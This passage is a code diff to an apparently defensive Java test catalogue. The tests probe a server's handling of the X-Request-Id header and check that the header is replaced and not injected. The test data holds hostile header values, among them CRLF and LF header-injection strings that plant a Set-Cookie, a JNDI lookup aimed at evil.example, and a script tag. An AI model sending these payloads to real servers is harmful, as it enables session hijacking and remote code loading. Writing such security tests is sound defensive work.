@@ -25,10 +25,19 @@ final class RequestIdProbes extends Catalogue {
         super("request-id", keys, fixtures);
     }
 
-    /** The answer's X-Request-Id, when the framework answered, is a fresh UUID and no Set-Cookie came back. */
+    /** The answer's X-Request-Id, when the framework answered, is a fresh UUID, and no Set-Cookie came back. */
     private static Predicate<Reply> replaced() {
         return reply -> reply.header("Set-Cookie").isEmpty() && reply.header("X-Request-Id")
                 .map(id -> UUID.matcher(id).matches()).orElse(reply.status() >= 400);
+    }
+
+    /**
+     * For a line break inside the value: the server reads what precedes it as the id (a plain "a") and the rest as a
+     * header line of the request; the answer's id must be a safe one and carry none of the rest, nor gain a header.
+     */
+    private static Predicate<Reply> notInjected(String header) {
+        return reply -> reply.header(header).isEmpty() && reply.header("X-Request-Id")
+                .map(id -> SAFE.matcher(id).matches()).orElse(reply.status() >= 400);
     }
 
     @Override
@@ -43,10 +52,11 @@ final class RequestIdProbes extends Catalogue {
         add(probe("a 129-character X-Request-Id").raw().get(MODELS).header("X-Request-Id", "r".repeat(129))
                 .expect(status(200).and("replaced", replaced())));
         add(probe("X-Request-Id with CRLF and a Set-Cookie").raw().get(MODELS)
-                .header("X-Request-Id", "a\r\nSet-Cookie: session=stolen").expect(any().and("no injection", replaced())));
+                .header("X-Request-Id", "a\r\nSet-Cookie: session=stolen")
+                .expect(any().and("no injection", notInjected("Set-Cookie"))));
         add(probe("X-Request-Id with a bare LF").raw().get(MODELS)
                 .header("X-Request-Id", "a\nX-Injected: 1").expect(any().and("no injection",
-                        reply -> reply.header("X-Injected").isEmpty() && replaced().test(reply))));
+                        notInjected("X-Injected"))));
         for (String hostile : new String[]{"a\u0000b", "a\u0001b", "a\u007fb", "a\tb", "caf\u00e9", "<script>x</script>",
                 "\"quoted\"", "a b", "${jndi:ldap://evil.example/a}", "%0d%0aSet-Cookie:x=1"}) {
             add(probe("hostile X-Request-Id " + hostile.codePoints().limit(12)
